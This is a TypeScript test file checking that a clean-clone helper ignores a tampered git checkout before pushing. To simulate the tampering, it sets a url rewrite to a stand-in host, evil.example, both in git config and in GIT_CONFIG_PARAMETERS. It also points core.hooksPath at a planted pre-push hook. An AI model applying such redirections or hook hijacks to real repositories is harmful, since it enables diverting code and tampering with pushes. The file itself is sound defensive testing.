import { existsSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { inCleanClone } from "./clean-clone.ts";
import { runGit } from "./git.ts";
import { githubStub } from "./testing/github-stub.ts";

test("what happened to the checkout before does not reach what pushes", async () => {
  await using github = await githubStub();
  const { cwd, env } = github.place;
  const commit = github.git("rev-parse", "HEAD").trim();
  // What code that ran in the checkout could have done.
  github.git("commit", "--quiet", "--allow-empty", "--message", "Not of this run");
  github.git("config", "url.https://evil.example/.insteadOf", "file:///");
  github.git("config", "core.hooksPath", cwd);
  writeFileSync(join(cwd, "pre-push"), "#!/bin/sh\nexit 1\n", { mode: 0o755 });
  const variables = {
    GIT_CONFIG_PARAMETERS: "'url.https://evil.example/.insteadOf=file:///'",
    GITHUB_REPOSITORY: "origin.git",
    GITHUB_SERVER_URL: `file://${join(github.origin, "..")}`,
    GITHUB_SHA: commit,
  };
  const clone = await inCleanClone({ cwd, env: { ...env, ...variables } }, async (clean) => {
    const settings = runGit(clean, ["config", "--name-only", "--list"]).trim().split("\n");
    // Its own: the origin, the token, and what a bare repository has.
    expect(settings.filter((name) => !/^(core|remote\.origin|http|safe)\./.test(name))).toEqual([]);
    expect(settings).not.toContain("core.hookspath");
    expect(runGit(clean, ["rev-parse", "HEAD"]).trim()).toBe(commit);
    runGit(clean, ["push", "--quiet", "origin", "HEAD:refs/heads/pushed"]);
    return clean.cwd;
  });
  expect(github.tip("pushed")).toBe(commit);
  expect(existsSync(clone)).toBe(false);
});
